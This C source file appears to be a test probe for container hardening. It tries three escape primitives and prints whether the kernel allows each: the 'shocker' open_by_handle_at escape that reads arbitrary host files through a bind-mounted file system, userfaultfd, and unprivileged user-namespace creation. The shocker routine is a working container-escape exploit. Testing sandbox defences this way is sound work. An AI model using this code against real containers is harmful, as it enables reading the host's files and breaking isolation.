/* Attempts an attacker inside a container makes, each printing "ok ..." (and exiting 0)
 * when the kernel lets it through, or "<what>: <strerror>" (exit 1) when it is refused.
 * Built static (gcc -static) so that it runs in a busybox image.
 *
 *   escape shocker PATH    open_by_handle_at on the file system of /etc/hosts (bind-mounted
 *                          from the host): open that file system's root (ext4 inode 2) and
 *                          print the host file PATH, relative to it
 *   escape userfaultfd     userfaultfd(UFFD_USER_MODE_ONLY): refused only by seccomp
 *   escape unshare-user    unshare(CLONE_NEWUSER)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int refused(const char *what) {
    printf("%s: %s\n", what, strerror(errno));
    return 1;
}

static int shocker(const char *path) {
    int mount_fd = open("/etc/hosts", O_RDONLY);
    if (mount_fd < 0)
        return refused("open /etc/hosts");
    struct { struct file_handle h; unsigned int ino_gen[2]; } root;
    root.h.handle_bytes = 8;
    root.h.handle_type = 1;           /* FILEID_INO32_GEN */
    root.ino_gen[0] = 2;              /* ext4's root inode */
    root.ino_gen[1] = 0;
    int dir = open_by_handle_at(mount_fd, &root.h, O_RDONLY | O_DIRECTORY);
    if (dir < 0)
        return refused("open_by_handle_at");
    int fd = openat(dir, path, O_RDONLY);
    if (fd < 0)
        return refused("openat");
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0)
        return refused("read");
    buf[n] = 0;
    printf("ok %s\n", buf);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 3 && !strcmp(argv[1], "shocker"))
        return shocker(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "userfaultfd")) {
        if (syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */) < 0)
            return refused("userfaultfd");
        printf("ok userfaultfd\n");
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[1], "unshare-user")) {
        if (unshare(CLONE_NEWUSER) < 0)
            return refused("unshare");
        printf("ok unshare\n");
        return 0;
    }
    fprintf(stderr, "usage: escape shocker PATH | userfaultfd | unshare-user\n");
    return 2;
}
